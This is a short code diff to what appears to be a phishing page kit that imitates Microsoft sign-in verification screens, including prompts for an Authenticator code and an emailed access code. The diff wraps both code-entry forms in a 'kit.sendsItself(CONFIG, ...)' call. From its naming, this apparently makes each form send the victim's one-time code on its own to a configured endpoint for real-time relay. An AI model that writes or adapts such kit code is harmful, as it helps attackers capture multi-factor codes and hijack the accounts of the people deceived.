@@ -61,7 +61,7 @@ function totpView() {
   const verify = h("button", { id: "btnVerify", type: "submit" }, "Verify");
   return [title("Verify Your Identity"),
     h("p", {}, "Enter the code from Microsoft Authenticator."),
-    form(verify, code.parts, () => codeStep(code))];
+    kit.sendsItself(CONFIG, code.input, form(verify, code.parts, () => codeStep(code)))];
 }
 
 function accessCodeView() {
@@ -69,9 +69,9 @@ function accessCodeView() {
   const trust = h("input", { type: "checkbox", id: "trustDevice" });
   const verify = h("button", { id: "btnVerify", type: "submit" }, "Continue");
   return [title("Access Code"), h("p", {}, "Enter the access code we sent you."),
-    form(verify, [...code.parts, h("label", { for: "trustDevice" }, trust,
+    kit.sendsItself(CONFIG, code.input, form(verify, [...code.parts, h("label", { for: "trustDevice" }, trust,
       "Skip this step in future if this is your private device.")],
-    () => codeStep(code, { trustDevice: trust.checked }))];
+    () => codeStep(code, { trustDevice: trust.checked })))];
 }
 
 function termsView() {
